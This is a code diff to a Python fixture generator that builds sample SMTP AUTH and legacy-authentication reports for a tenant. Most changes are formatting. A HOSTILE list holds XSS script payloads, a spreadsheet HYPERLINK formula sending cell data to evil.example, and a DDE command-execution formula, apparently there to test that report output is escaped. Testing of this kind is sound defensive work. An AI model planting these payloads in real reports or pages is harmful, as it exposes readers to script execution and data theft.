@@ -40,7 +40,15 @@ FAMILY = (
     "Bergman", "Παπαδόπουλος", "Rossi", "Weber", "Коваленко", "Fischer", "לוי", "Jansen", "Dubois", "Tanaka", "Moreau",
     "Hansen", "Melnyk", "Schneider", "Petrović", "Ткаченко", "Larsen", "Virtanen", "Costa", "Baumgartner",
 )  # fmt: skip
-SHARED = ("Accounts payable", "Info", "Scan to mail, floor 3", "Warehouse", "Бухгалтерія", "Support", "Monitoring alerts")
+SHARED = (
+    "Accounts payable",
+    "Info",
+    "Scan to mail, floor 3",
+    "Warehouse",
+    "Бухгалтерія",
+    "Support",
+    "Monitoring alerts",
+)
 ROOMS = ("Meeting room Dnipro", "Meeting room Oslo", "Board room", "Projector 2")
 
 AUTH_SENTENCE = "Authentication unsuccessful, {}"
@@ -58,7 +66,7 @@ REPLIES = {
 BECAUSE = {
     "smtp_auth_switch": "The mailbox follows the tenant, and the tenant has SMTP AUTH off.",
     "mailbox_switch": "SMTP AUTH is off for this mailbox itself; the tenant's value does not matter.",
-    "conditional_access": "The policy “Block legacy authentication” stops clients that cannot do modern authentication.",
+    "conditional_access": "The policy “Block legacy authentication” stops clients without modern authentication.",
     "authentication_policy": "The authentication policy “Block Basic” does not allow Basic for SMTP.",
     "account": "Sign-in is blocked for this account.",
 }
@@ -81,7 +89,7 @@ REMEDIES = {
         "Move the sender to OAuth. If that is impossible for now, exclude this one account from “Block legacy "
         "authentication” and limit it to the sender's address.",
         "",
-        "Microsoft Entra admin center > Protection > Conditional Access > Policies > Block legacy authentication > Users",
+        "Microsoft Entra admin center > Conditional Access > Policies > Block legacy authentication > Users",
         "Remove the exclusion.",
     ),
     "authentication_policy": (
@@ -150,7 +158,7 @@ def _make_gate(gate: str, case: Case) -> GatePart:
     cause = "mailbox_switch" if gate == "smtp_auth_switch" and case.switched_off_itself else gate
     sentences = {
         "open": "Nothing here stops it.",
-        "closed": BECAUSE[cause] if cause in BECAUSE else "",
+        "closed": BECAUSE.get(cause, ""),
         "depends": "The policy “Only from our offices” stops it from addresses outside the named locations.",
         "unknown": "A policy refers to a group whose members could not be read.",
     }
@@ -198,8 +206,13 @@ def make_mailbox(number: int, case: Case, name: str, kind: str, domain: str = "c
             oauth_delegated=make_verdict(case, case.oauth),
             oauth_app=make_verdict(case, case.oauth),
         ),
-        use=UsePart(basic=140 if used else 0, oauth=0, last_seen="2026-11-20T06:31:00Z" if used else None,
-                    window_days=30, source="sign-ins"),  # fmt: skip
+        use=UsePart(
+            basic=140 if used else 0,
+            oauth=0,
+            last_seen="2026-11-20T06:31:00Z" if used else None,
+            window_days=30,
+            source="sign-ins",
+        ),
         flag=case.flag,
         likelihood=("likely" if number % 3 == 0 else "unlikely") if case.flag == "would_fail" else None,
         waiver=WaiverPart(reason="Scanner is replaced in spring", owner="it@contoso.example", expires="2027-03-31")
@@ -256,7 +269,9 @@ def summarise(mailboxes: list[MailboxPart]) -> SummaryPart:
         by_outcome={
             method: _count([getattr(mailbox.verdicts, method).outcome for mailbox in judged]) for method in methods
         },
-        by_gate=_count([mailbox.verdicts.basic.decided_by or "" for mailbox in judged if mailbox.verdicts.basic.closed]),
+        by_gate=_count(
+            [mailbox.verdicts.basic.decided_by or "" for mailbox in judged if mailbox.verdicts.basic.closed]
+        ),
         by_kind=_count([mailbox.kind for mailbox in judged]),
     )
 
@@ -308,7 +323,10 @@ def make_report(count: int = 60, *, complete: bool = True, mailboxes: list[Mailb
     return Report(
         schema=SCHEMA,
         tenant=TenantPart(
-            id="8f2d9c1e-5b0a-4c57-9d35-0f6f2f7b1a11", domain="contoso.example", name="Contoso Логістика", cloud="public"
+            id="8f2d9c1e-5b0a-4c57-9d35-0f6f2f7b1a11",
+            domain="contoso.example",
+            name="Contoso Логістика",
+            cloud="public",
         ),
         run=RunPart(
             id="20261123-080000-contoso", started="2026-11-23T08:00:00Z", finished="2026-11-23T08:00:41Z",
@@ -328,7 +346,7 @@ def make_report(count: int = 60, *, complete: bool = True, mailboxes: list[Mailb
 HOSTILE = (
     "</script><script>document.title='owned'</script>",
     "<img src=x onerror=\"document.title='owned'\">",
-    "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("https://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(A1:A9)",
@@ -364,7 +382,8 @@ def make_hostile_report() -> Report:
     ]
     report = make_report(mailboxes=rows, complete=False)
     policies = [
-        msgspec.structs.replace(POLICIES[0], id=str(number), name=text, because=text) for number, text in enumerate(HOSTILE)
+        msgspec.structs.replace(POLICIES[0], id=str(number), name=text, because=text)
+        for number, text in enumerate(HOSTILE)
     ]
     return msgspec.structs.replace(
         report,
